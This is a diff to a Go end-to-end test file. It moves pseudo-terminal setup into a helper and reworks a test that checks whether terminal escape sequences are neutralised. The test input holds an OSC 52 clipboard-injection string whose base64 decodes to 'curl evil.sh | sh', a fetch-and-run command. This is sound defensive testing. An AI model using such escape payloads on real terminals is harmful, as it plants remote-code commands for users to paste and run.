@@ -41,6 +41,32 @@ func (s *screen) text() string {
 	return strings.TrimRight(strings.Join(rows, "\n"), "\n")
 }
 
+// onPTY starts cmd with its stderr (and with stdoutToo its stdout) on a
+// pseudo-terminal of cols×rows, which the returned screen shows; copied is
+// closed once the terminal has nothing more to show (after cmd exits).
+func onPTY(t *testing.T, cmd *exec.Cmd, cols, rows int, stdoutToo bool) (scr *screen, copied <-chan struct{}) {
+	t.Helper()
+	ptmx, tty, err := pty.Open()
+	if err != nil {
+		t.Fatalf("no pseudo-terminal: %v", err)
+	}
+	t.Cleanup(func() { ptmx.Close() })
+	pty.Setsize(ptmx, &pty.Winsize{Rows: uint16(rows), Cols: uint16(cols)})
+	cmd.Env = append(cmd.Env, "TERM=xterm")
+	cmd.Stderr = tty
+	if stdoutToo {
+		cmd.Stdout = tty
+	}
+	if err := cmd.Start(); err != nil {
+		t.Fatal(err)
+	}
+	tty.Close()
+	scr = &screen{term: vt10x.New(vt10x.WithSize(cols, rows))}
+	done := make(chan struct{})
+	go func() { io.Copy(scr, ptmx); close(done) }()
+	return scr, done
+}
+
 // On a terminal, stderr shows a progress line and a line per slot with its
 // job and elapsed time, redrawn in place; what went wrong is printed above
 // it; the summary follows it at the end. Checked on the screen of a terminal
@@ -140,25 +166,12 @@ func TestE2EEscapesOnTerminal(t *testing.T) {
 	evil := "\x1b]2;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
 	onTerminal := func(args ...string) (raw, screenText string, code int) {
 		t.Helper()
-		ptmx, tty, err := pty.Open()
-		if err != nil {
-			t.Fatalf("no pseudo-terminal: %v", err)
-		}
-		defer ptmx.Close()
-		pty.Setsize(ptmx, &pty.Winsize{Rows: 24, Cols: 120})
 		cmd := exec.Command(binary, args...)
 		cmd.Dir = dir
-		cmd.Env = append(os.Environ(), "HOME="+dir, lockEnv(dir), "TERM=xterm")
+		cmd.Env = append(os.Environ(), "HOME="+dir, lockEnv(dir))
 		cmd.Stdin = strings.NewReader("[name=evil] echo hi; exit 4 # " + evil + "\n")
-		cmd.Stdout, cmd.Stderr = tty, tty
-		if err := cmd.Start(); err != nil {
-			t.Fatal(err)
-		}
-		tty.Close()
-		scr := &screen{term: vt10x.New(vt10x.WithSize(120, 24))}
-		copied := make(chan struct{})
-		go func() { io.Copy(scr, ptmx); close(copied) }()
-		err = cmd.Wait()
+		scr, copied := onPTY(t, cmd, 120, 24, true)
+		err := cmd.Wait()
 		<-copied
 		return scr.raw.String(), scr.text(), statusOf(err)
 	}
